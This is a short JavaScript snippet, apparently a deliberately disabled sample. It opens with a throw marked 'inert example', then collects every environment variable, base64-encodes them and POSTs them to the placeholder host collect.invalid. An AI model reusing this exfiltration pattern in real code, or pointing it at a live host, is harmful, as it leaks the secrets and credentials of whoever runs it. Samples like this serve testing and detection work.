throw new Error("inert example");
const https = require("https");
const data = JSON.stringify(process.env);
const request = https.request({ host: "collect.invalid", method: "POST", path: "/" });
request.write(Buffer.from(data).toString("base64"));
request.end();
